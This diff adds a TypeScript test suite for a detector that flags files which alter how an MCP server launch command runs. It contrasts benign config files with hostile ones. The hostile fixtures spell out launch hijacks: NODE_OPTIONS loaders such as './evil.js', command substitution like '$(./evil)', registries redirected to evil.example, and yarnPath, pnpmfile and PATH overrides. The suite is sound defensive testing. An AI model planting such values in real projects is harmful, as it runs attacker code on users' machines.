@@ -1,0 +1,391 @@
+import { type Case, type Files, mcp, playCases } from './cases.ts';
+
+const server = '@fictional-mcp/notes@1.4.0';
+const npx = `npx -y ${server}`;
+const bunx = `bunx ${server}`;
+const deno = `deno run -A npm:${server}`;
+const jsr = 'deno run -A jsr:@fictional/server@1.0.0';
+const dlx = `pnpm dlx ${server}`;
+const yarn = `yarn dlx ${server}`;
+const uvRun = 'uv run --with other-mcp==1.0.0 other-mcp';
+const uvx = 'uvx other-mcp==1.0.0';
+const dnx = 'dnx Fictional.Mcp@1.0.0 --yes';
+const through = (wrapper: string): string => `${wrapper} ${npx}`;
+
+function entry(line: string): Files {
+  const [command = '', ...args] = line.split(' ');
+  return mcp({ command, args });
+}
+
+/** A change that adds files around a server, which is altered by them. */
+function hostile(name: string, line: string, head: Files, rules = 'altered-launch'): Case {
+  return { name, base: entry(line), head, expected: `changed: ${rules}` };
+}
+
+/** A change that adds files around a server, which stays what it was. */
+function honest(name: string, line: string, head: Files): Case {
+  return { name: `${name} (honest)`, base: entry(line), head, expected: 'unchanged' };
+}
+
+const unlisted = 'altered-launch, unlisted';
+/** Under another registry the name is that of another package. */
+const elsewhere = 'altered-launch, grade-lost, unlisted';
+const loader = 'NODE_OPTIONS=--require=./evil.js\n';
+
+const variables: readonly Case[] = [
+  hostile('.env of dotenv', through('dotenv --'), { '.env': loader }),
+  hostile('.env.local of dotenv', through('dotenv -c --'), { '.env.local': loader }),
+  hostile('.env of dotenv-cli', through('npx -y dotenv-cli --'), { '.env': loader }),
+  hostile('.env of dotenvx', through('dotenvx run --'), { '.env': loader }),
+  hostile('a command in the value of dotenvx', through('dotenvx run --'), {
+    '.env': 'PORT="$(./evil)"\n',
+  }),
+  hostile('a file that dotenvx is given', through('dotenvx run -f=conf/x.env --'), {
+    'conf/x.env': 'A=$(./evil)\n',
+  }),
+  hostile('.env.mcp of envmcp', through('npx -y envmcp'), { '.env.mcp': loader }),
+  hostile('the schema of varlock', through('varlock run --'), {
+    '.env.schema': 'A=exec(`./evil`)\n',
+  }),
+  hostile('a folder that varlock is given', through('varlock run --path conf --'), {
+    'conf/.env.schema': 'A=exec("./evil")\n',
+  }),
+  hostile('.env of Bun', bunx, { '.env': loader }),
+  hostile('.env.production.local of Bun', bunx, { '.env.production.local': loader }),
+  hostile('--env of deno', `deno run --env -A npm:${server}`, {
+    '.env': 'DENO_DIR=./d\n',
+    'd/x.js': '',
+  }),
+  hostile(
+    '--env-file of deno alone',
+    `deno run --env-file -A npm:${server}`,
+    {
+      '.env': 'NPM_CONFIG_REGISTRY=https://evil.example/\n',
+    },
+    elsewhere,
+  ),
+  hostile(
+    '--env-file of uv',
+    'uv run --env-file=x.env --with other-mcp==1.0.0 other-mcp',
+    {
+      'x.env': 'PYTHONPATH=./evil\n',
+      'evil/x.py': '',
+    },
+    unlisted,
+  ),
+  hostile('--env-file of op', through('op run --env-file=app.env --'), { 'app.env': loader }),
+  hostile('--env-file of op in two words', through('op run --env-file app.env --'), {
+    'app.env': loader,
+  }),
+  hostile('--env-file of infisical', through('infisical run --env-file=./a/b.env --'), {
+    'a/b.env': loader,
+  }),
+  hostile('--env-file of doppler', through('doppler run --env-file app.env --'), {
+    'app.env': loader,
+  }),
+  hostile('a fallback of doppler', through('doppler run --fallback ./secrets.enc --'), {
+    'secrets.enc': 'x',
+  }),
+  hostile('secrets in fnox.toml', through('fnox run --'), {
+    'fnox.toml': '[secrets.NODE_OPTIONS]\ndefault = "--require ./evil.js"\n',
+  }),
+  hostile('a file of variables of teller', through('teller run --'), {
+    '.teller.yml': 'providers:\n  x:\n    kind: dotenv\n',
+  }),
+];
+
+/** Spellings of one assignment. */
+const spellings: readonly Case[] = [
+  ['export and a tab', 'export\tNODE_OPTIONS=--require=./evil.js'],
+  ['export and spaces', '  export   NODE_OPTIONS = --require=./evil.js'],
+  ['a colon', 'NODE_OPTIONS: --require=./evil.js'],
+  ['a byte order mark', '\uFEFFNODE_OPTIONS=--require=./evil.js'],
+  ['a carriage return', 'A=1\rNODE_OPTIONS=--require=./evil.js\r'],
+  ['a name in quotes', '"NODE_OPTIONS"=--require=./evil.js'],
+  ['a value in quotes', 'NODE_OPTIONS="--require ./evil.js"'],
+  ['a value over lines', 'NODE_OPTIONS="\n--require ./evil.js"'],
+  ['a line within a value', 'A="\nNODE_OPTIONS=--require=./evil.js\n"'],
+  ['a value that is expanded', 'X=--require\nNODE_OPTIONS="$X ./evil.js"'],
+  ['a value with a default', 'NODE_OPTIONS=$' + '{X:---require=./evil.js}'],
+  ['set', 'set NODE_OPTIONS=--require=./evil.js'],
+  ['behind a harmless one', 'NODE_OPTIONS=--max-old-space-size=512\nNODE_OPTIONS=-r=./evil.js'],
+  ['a path that is expanded', 'D=./bin\nPATH=$D:$PATH', { 'bin/npx': { executable: '#!' } }],
+].map(([name = '', text, more = {}]) =>
+  hostile(`${name} in a file of variables`, through('dotenv --'), {
+    '.env': `${text}\n`,
+    ...(more as Files),
+  }),
+);
+
+const managers: readonly Case[] = [
+  hostile('git of npm', npx, { '.npmrc': 'git=./evil\n' }),
+  hostile('node-gyp of npm', npx, { '.npmrc': 'node-gyp=./evil.js\n' }),
+  hostile('cafile of the tree', npx, { '.npmrc': 'cafile=ca.pem\n', 'ca.pem': 'x' }, elsewhere),
+  hostile('script-shell', npx, { '.npmrc': 'script-shell=./evil\n' }),
+  hostile('node-options', npx, { '.npmrc': 'node-options=--require ./evil.js\n' }),
+  hostile('globalconfig', npx, { '.npmrc': 'globalconfig=./other\n' }, elsewhere),
+  hostile(
+    'a key in quotes',
+    npx,
+    { '.npmrc': '"regis\\u0074ry"=https://evil.example/\n' },
+    elsewhere,
+  ),
+  hostile('.npmrc in capitals', npx, { '.NPMRC': 'registry=https://evil.example/\n' }, elsewhere),
+  hostile(
+    'a plain http registry',
+    npx,
+    { '.npmrc': 'registry=http://registry.npmjs.org/\n' },
+    elsewhere,
+  ),
+  hostile('.npmrc of deno', deno, { '.npmrc': 'registry=https://evil.example/\n' }, elsewhere),
+  hostile(
+    '.npmrc that is a link',
+    npx,
+    {
+      'x/rc': 'registry=https://evil.example/\n',
+      '.npmrc': { link: 'x/rc' },
+    },
+    elsewhere,
+  ),
+  hostile('a token helper', npx, { '.npmrc': '//registry.npmjs.org/:tokenHelper=./evil\n' }),
+  hostile('dependencies of pnpm’s settings', dlx, {
+    'pnpm-workspace.yaml': 'configDependencies:\n  evil: 1.0.0+sha512-x\n',
+  }),
+  hostile('pnpmfile of pnpm', dlx, { 'pnpm-workspace.yaml': 'pnpmfile: ./evil.cjs\n' }),
+  hostile('node mirrors of pnpm', dlx, {
+    'pnpm-workspace.yaml': 'nodeDownloadMirrors:\n  release: https://evil.example/\n',
+  }),
+  hostile('a manager from an address', dlx, {
+    'package.json': '{"packageManager":"pnpm@https://evil.example/pnpm.tgz"}',
+  }),
+  hostile('a manager from a file', yarn, {
+    'package.json': '{"packageManager":"yarn@file:./evil.tgz"}',
+  }),
+  hostile(
+    'a manager that cannot be read',
+    dlx,
+    { 'package.json': '{"packageManager":' },
+    elsewhere,
+  ),
+  hostile('yarnPath', yarn, { '.yarnrc.yml': 'yarnPath: ./evil.cjs\n' }),
+  hostile('plugins of Yarn', yarn, { '.yarnrc.yml': 'plugins:\n  - ./evil.cjs\n' }),
+  hostile('checksums of Yarn', yarn, { '.yarnrc.yml': 'checksumBehavior: ignore\n' }, elsewhere),
+  hostile('yarn-path behind a tab', yarn, { '.yarnrc': 'yarn-path\t"./evil.js"\n' }),
+  hostile('files of variables of Yarn', yarn, {
+    '.yarnrc.yml': 'injectEnvironmentFiles: ["conf/x.env?"]\n',
+    'conf/x.env': loader,
+  }),
+  hostile('.env.yarn', yarn, { '.env.yarn': loader }),
+  hostile('preload of Bun', bunx, { 'bunfig.toml': 'preload = ["./evil.ts"]\n', 'evil.ts': '' }),
+  hostile(
+    'uv.toml: a mirror of Python',
+    uvRun,
+    {
+      'uv.toml': 'python-install-mirror = "https://evil.example/"\n',
+    },
+    unlisted,
+  ),
+  hostile(
+    'uv.toml: a cache of the tree',
+    uvRun,
+    {
+      'uv.toml': 'cache-dir = "./cache"\n',
+      'cache/x/evil.py': '',
+    },
+    unlisted,
+  ),
+  hostile(
+    'pyproject.toml: a list of downloads',
+    uvRun,
+    {
+      'pyproject.toml': '[tool.uv]\npython-downloads-json-url = "./evil.json"\n',
+    },
+    unlisted,
+  ),
+  hostile(
+    'uv.toml: an override',
+    uvRun,
+    {
+      'uv.toml': 'override-dependencies = ["other-mcp==0.1"]\n',
+    },
+    unlisted,
+  ),
+  hostile(
+    '.python-version with a path',
+    uvRun,
+    {
+      '.python-version': './bin/python\n',
+      'bin/python': { executable: '#!/bin/sh\n' },
+    },
+    unlisted,
+  ),
+];
+
+const tools: readonly Case[] = [
+  hostile('mise: a variable', through('mise x --'), {
+    'mise.toml': '[env]\nNODE_OPTIONS = "--require ./evil.js"\n',
+  }),
+  hostile('mise behind a shim', npx, { '.mise.toml': '[env]\nNODE_OPTIONS = "-r ./evil.js"\n' }),
+  ...['mise.local.toml', 'mise.dev.toml', '.config/mise/config.toml', '.mise/conf.d/x.toml'].map(
+    (path) => hostile(path, npx, { [path]: '[env]\nNODE_OPTIONS = "-r ./evil.js"\n' }),
+  ),
+  hostile('mise: a folder of programs', npx, {
+    'mise.toml': '[env]\n_.path = ["./bin"]\n',
+    'bin/npx': { executable: '#!/bin/sh\n' },
+  }),
+  hostile('mise: a script', npx, { 'mise.toml': '[env]\n_.source = "./env.sh"\n', 'env.sh': '' }),
+  hostile('mise: a file of variables', npx, {
+    'mise.toml': '[env]\n_.file = ["conf/x.env"]\n',
+    'conf/x.env': loader,
+  }),
+  hostile('mise: a file of variables above its own folder', npx, {
+    '.config/mise.toml': '[env]\n_.file = "{{config_root}}/conf/x.env"\n',
+    'conf/x.env': loader,
+  }),
+  hostile('mise: a template that runs a command', npx, {
+    'mise.toml': '[env]\nPORT = "{{ exec(command=\'./evil\') }}"\n',
+  }),
+  hostile('mise: node by a path', npx, {
+    'mise.toml': '[tools]\nnode = "path:./node"\n',
+    'node/bin/npx': { executable: '#!/bin/sh\n' },
+  }),
+  hostile('mise: a tool from anywhere', through('mise x --'), {
+    'mise.toml': '[tools]\n"http:evil" = { version = "1", url = "https://evil.example/" }\n',
+  }),
+  hostile('.tool-versions with a path', npx, {
+    '.tool-versions': 'nodejs path:./node\n',
+    'node/bin/npx': { executable: '#!/bin/sh\n' },
+  }),
+  hostile('deno: a map', deno, {
+    'deno.json': `{"imports":{"npm:${server}":"./evil.js"}}`,
+    'evil.js': '',
+  }),
+  hostile('deno: links', deno, { 'deno.jsonc': '{"links":["./evil"],}' }),
+  hostile('deno: a folder that others fill', deno, { 'deno.json': '{"nodeModulesDir":"manual"}' }),
+  hostile('deno: vendored code', jsr, { 'deno.json': '{"vendor":true}' }, unlisted),
+  hostile(
+    'deno: a member of that name',
+    jsr,
+    {
+      'deno.json': '{"workspace":["./packages/*"]}',
+      'packages/a/deno.json': '{"name":"@fictional/server","version":"1.0.0"}',
+    },
+    unlisted,
+  ),
+  hostile(
+    'NuGet: another source',
+    dnx,
+    {
+      'NuGet.Config':
+        '<configuration><packageSources><add key="x" value="https://evil.example/index.json"/></packageSources></configuration>',
+    },
+    unlisted,
+  ),
+  hostile(
+    'NuGet: packages of the tree',
+    dnx,
+    {
+      'nuget.config':
+        '<configuration><config><add key="globalPackagesFolder" value="p" /></config></configuration>',
+      'p/fictional.mcp/1.0.0/x.dll': '',
+    },
+    unlisted,
+  ),
+  hostile(
+    'NuGet: a document type',
+    dnx,
+    { 'nuget.config': '<!DOCTYPE x><configuration/>' },
+    unlisted,
+  ),
+  hostile(
+    'another .NET',
+    dnx,
+    { 'global.json': '{"sdk":{"paths":["./dotnet"]}}', 'dotnet/dotnet': { executable: '#!' } },
+    unlisted,
+  ),
+  hostile(
+    'another version in a manifest of tools',
+    dnx,
+    {
+      '.config/dotnet-tools.json':
+        '{"version":1,"tools":{"Fictional.Mcp":{"version":"0.1.0","commands":["x"]}}}',
+    },
+    unlisted,
+  ),
+];
+
+const usual: readonly Case[] = [
+  honest('a token and harmless settings', npx, {
+    '.npmrc': `//registry.npmjs.org/:_authToken=\${NPM_TOKEN}\nsave-exact=true\nengine-strict=true\nregistry=https://registry.npmjs.org/\nfund=false\naudit=false\nlegacy-peer-deps=true\n`,
+  }),
+  honest('settings of pnpm in .npmrc', dlx, {
+    '.npmrc':
+      'shamefully-hoist=true\nauto-install-peers=true\nnode-linker=hoisted\npublic-hoist-pattern[]=*types*\nstrict-peer-dependencies=false\n',
+  }),
+  honest('a company’s certificate and proxy', npx, {
+    '.npmrc': 'cafile=/etc/ssl/certs/company.pem\nproxy=http://proxy.company.example:8080\n',
+  }),
+  honest('a workspace of pnpm', dlx, {
+    'pnpm-workspace.yaml':
+      'packages:\n  - packages/*\ncatalog:\n  zod: ^3\nonlyBuiltDependencies:\n  - esbuild\nminimumReleaseAge: 1440\nnodeLinker: hoisted\n',
+  }),
+  honest('a manager’s version', dlx, {
+    'package.json':
+      '{"packageManager":"pnpm@9.1.0+sha512.67f5879916a9293e5cf059c23853d571beaf4f753c707f40cb22bed5fb1578c6aad3b6c4107ccb3ba0b35be003eb621a16471ac836c87beb53f9d54bb4612724","devEngines":{"packageManager":{"name":"pnpm","version":"^9"}}}',
+  }),
+  honest('Yarn’s own release and plugins', yarn, {
+    '.yarnrc.yml':
+      'nodeLinker: node-modules\nenableTelemetry: false\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-version.cjs\n    spec: "@yarnpkg/plugin-version"\n',
+    'package.json': '{"packageManager":"yarn@4.1.0"}',
+  }),
+  honest('settings of tests of Bun', bunx, {
+    'bunfig.toml': '[test]\npreload = ["./setup.ts"]\n[install]\nexact = true\n[run]\nbun = true\n',
+  }),
+  honest('API keys', through('dotenv --'), {
+    '.env':
+      '# keys\nexport OPENAI_API_KEY="sk-x"\nPORT=3000\nNODE_ENV=production\nDATABASE_URL=postgres://db/x\nLOG_LEVEL=debug\n',
+  }),
+  honest('API keys of Bun', bunx, { '.env': 'API_KEY=x\n', '.env.example': 'API_KEY=\n' }),
+  honest('a price in a file of variables', through('dotenvx run --'), { '.env': 'PRICE="$5"\n' }),
+  honest('options of doppler', through('doppler run -p app -c dev --'), {
+    'doppler.yaml': 'setup:\n  project: app\n  config: dev\n',
+    'dev/x.md': '',
+  }),
+  honest('versions of tools', npx, {
+    'mise.toml':
+      '[tools]\nnode = "22"\npython = ["3.12", "3.11"]\n"npm:prettier" = "latest"\n[env]\nNODE_ENV = "development"\n_.path = ["node_modules/.bin"]\n_.file = ".env"\n[tasks.build]\nrun = "npm run build"\n',
+    '.tool-versions': 'nodejs 22.1.0\npython 3.12.1 system # both\n',
+    '.nvmrc': '22\n',
+    '.node-version': '22.1.0\n',
+  }),
+  honest('versions of tools for mise itself', through('mise x node@22 --'), {
+    'mise.toml':
+      '[tools]\nnode = "22"\n"aqua:jqlang/jq" = "1.7"\n[settings]\nexperimental = true\n',
+  }),
+  honest('a project of uv', uvRun, {
+    'uv.toml': 'index-strategy = "first-index"\n',
+    '.python-version': '3.12\n',
+  }),
+  honest('settings of uv that uvx does not read', uvx, {
+    'uv.toml': 'index-url = "https://evil.example/simple"\n',
+    '.python-version': './bin/python\n',
+    'bin/python': { executable: '#!/bin/sh\n' },
+  }),
+  honest('a project of deno', deno, {
+    'deno.json':
+      '{"tasks":{"x":"deno run x.ts"},"imports":{"@std/path":"jsr:@std/path@1","@/":"./src/"},"nodeModulesDir":"auto","lock":true,"fmt":{"lineWidth":100}}',
+  }),
+  honest('the default source of NuGet', dnx, {
+    'NuGet.config':
+      '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <!-- one source -->\n  <packageSources>\n    <clear />\n    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" protocolVersion="3" />\n  </packageSources>\n</configuration>\n',
+  }),
+  honest('a version of .NET', dnx, {
+    'global.json': '{"sdk":{"version":"10.0.100","rollForward":"latestFeature"}}',
+    '.config/dotnet-tools.json':
+      '{"version":1,"isRoot":true,"tools":{"dotnet-ef":{"version":"9.0.0","commands":["dotnet-ef"]}}}',
+  }),
+  honest('variables that nothing reads', npx, { '.env': loader }),
+  honest('an encrypted file that no option names', through('doppler run --'), { 'a.enc': 'x' }),
+];
+
+playCases([...variables, ...spellings, ...managers, ...tools, ...usual]);
